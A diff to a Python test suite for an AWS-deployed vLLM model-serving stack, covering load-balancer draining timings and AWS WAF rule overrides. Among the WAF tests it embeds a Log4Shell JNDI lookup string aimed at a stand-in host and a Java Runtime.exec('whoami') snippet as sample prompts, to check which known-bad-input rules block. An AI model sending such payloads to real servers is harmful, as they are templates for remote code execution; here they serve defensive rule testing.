@@ -16,7 +16,9 @@ from aws_cdk.assertions import Template
 
 from app import project_app
 from charts import NETWORK_POLICY_CONTROLLER, DeployedResources, build_charts
+from charts.exposure import deregistration_delay_seconds
 from settings import STAGES_DIR, parse_stage_settings
+from settings.drain import LOAD_BALANCER_DEREGISTRATION_SECONDS, SHUTDOWN_SECONDS, max_request_seconds
 from settings.model import StageSettings
 from stacks.serving import smoke_test_command, smoke_test_timeout
 from stacks.web_acl import rate_limited_web_acl
@@ -89,6 +91,31 @@ def test_an_internal_https_load_balancer_routes_only_v1_to_the_service() -> None
         assert kubernetes_problems(obj, "1.36") == []
 
 
+def test_a_replica_leaving_the_load_balancer_drains_before_sigterm_and_before_the_target_is_dropped() -> None:
+    # No pod readiness gates on Auto Mode: the preStop keeps vLLM serving until the load balancer has deregistered
+    # the replica, then until its requests end; the target group keeps a draining target as long as the longest
+    # request; the grace period covers both and vLLM's stop.
+    settings = exposed_settings()
+    model = settings.models[0]
+    deployment = find(exposed_objects(), "Deployment")["spec"]["template"]["spec"]
+    pre_stop = deployment["containers"][0]["lifecycle"]["preStop"]["exec"]["command"]
+    wait = int(next(arg for arg in pre_stop if arg.startswith("DRAIN_DELAY=")).split("=")[1])
+    assert wait == LOAD_BALANCER_DEREGISTRATION_SECONDS == 120
+    annotations = find(exposed_objects(), "Ingress")["metadata"]["annotations"]
+    attributes = annotations["alb.ingress.kubernetes.io/target-group-attributes"]
+    delay = int(attributes.removeprefix("deregistration_delay.timeout_seconds="))
+    assert delay == max_request_seconds(model) == 1000  # not ELB's default 300, which would cut long requests
+    assert deployment["terminationGracePeriodSeconds"] >= wait + max_request_seconds(model) + SHUTDOWN_SECONDS
+    # A model that no load balancer fronts waits only for the proxies.
+    unexposed = find(render_charts("prod")["Model-gpt-oss-20b"], "Deployment")["spec"]["template"]["spec"]
+    assert "DRAIN_DELAY=10" in unexposed["containers"][0]["lifecycle"]["preStop"]["exec"]["command"]
+
+
+def test_the_deregistration_delay_stays_within_elbs_limit() -> None:
+    model = exposed_settings(**{}).models[0].model_copy(update={"max_request_seconds": 5000})
+    assert deregistration_delay_seconds(model) == 3600
+
+
 def prefix_matches(prefix: str, path: str) -> bool:
     """Kubernetes' Prefix match: element by element on '/' (networking.k8s.io/v1 HTTPIngressPath)."""
     wanted = [element for element in prefix.split("/") if element]
@@ -147,6 +174,39 @@ def test_the_web_acl_limits_each_key_and_all_requests_and_cloudformation_accepts
     assert (total["Limit"], total["AggregateKeyType"]) == (6000, "CONSTANT")
     assert "ScopeDownStatement" in total  # CONSTANT counts what the scope-down statement matches
     assert all(rules[name]["Action"] == {"Block": {}} for name in ("rate-per-api-key", "rate-total"))
+
+
+def action_on_match(acl: dict[str, Any], group: str, rule: str) -> str:
+    """The action AWS WAF takes when `rule` of a managed rule group matches: the group's rules block (AWS WAF
+    Developer Guide, "Baseline rule groups") unless the web ACL overrides the rule's action."""
+    (statement,) = [
+        r["Statement"]["ManagedRuleGroupStatement"]
+        for r in acl["Rules"]
+        if r["Statement"].get("ManagedRuleGroupStatement", {}).get("Name") == group
+    ]
+    overrides = {o["Name"]: next(iter(o["ActionToUse"])) for o in statement.get("RuleActionOverrides", [])}
+    return overrides.get(rule, "Block")
+
+
+# A prompt that quotes the Log4j pattern the guide gives for Log4JRCE_BODY, and a Java one for
+# JavaDeserializationRCE_BODY: the rules they match must not block the request.
+PROMPTS_THAT_MATCH = {
+    "Log4JRCE_BODY": "Why is ${jndi:ldap://example.com/} in my logs dangerous?",
+    "JavaDeserializationRCE_BODY": 'Explain (java.lang.Runtime).getRuntime().exec("whoami")',
+}
+
+
+@pytest.mark.parametrize("rule", sorted(PROMPTS_THAT_MATCH))
+def test_a_prompt_quoting_an_exploit_is_not_blocked_by_the_body_rules(rule: str) -> None:
+    acl = web_acl(**LIMITS)
+    assert action_on_match(acl, "AWSManagedRulesKnownBadInputsRuleSet", rule) == "Count"
+    assert cloudformation_problems(WEB_ACL_TYPE, acl) == []
+
+
+def test_known_bad_inputs_still_block_outside_the_body() -> None:
+    acl = web_acl(**LIMITS)
+    for rule in ("Log4JRCE_HEADER", "Log4JRCE_URIPATH", "JavaDeserializationRCE_HEADER", "Host_localhost_HEADER"):
+        assert action_on_match(acl, "AWSManagedRulesKnownBadInputsRuleSet", rule) == "Block"
 
 
 def test_the_cloudformation_schema_rejects_a_broken_web_acl() -> None:
@@ -218,7 +278,7 @@ def test_only_the_inbound_subnets_reach_the_replicas_port() -> None:
     assert kubernetes_problems(policy, "1.36") == []
 
 
-def test_exposure_turns_on_network_policies_on_the_gpu_nodes_and_in_the_cluster() -> None:
+def test_exposure_turns_on_network_policies_in_the_cluster_and_changes_no_node_class() -> None:
     charts = exposed_charts()
     for node_class in [o for o in charts["GpuNodePool"].to_json() if o["kind"] == "NodeClass"]:
         assert node_class["spec"]["networkPolicy"] == "DefaultAllow"  # pods no policy selects stay open
@@ -229,7 +289,8 @@ def test_exposure_turns_on_network_policies_on_the_gpu_nodes_and_in_the_cluster(
     assert config_map["data"] == {"enable-network-policy-controller": "true"}
     plain = render_charts("prod")
     assert NETWORK_POLICY_CONTROLLER not in plain
-    assert all("networkPolicy" not in o["spec"] for o in plain["GpuNodePool"] if o["kind"] == "NodeClass")
+    # The NodeClasses are the same without exposure: turning it on replaces no GPU node.
+    assert plain["GpuNodePool"] == charts["GpuNodePool"].to_json()
 
 
 def test_the_web_acl_keeps_no_sample_of_requests() -> None:
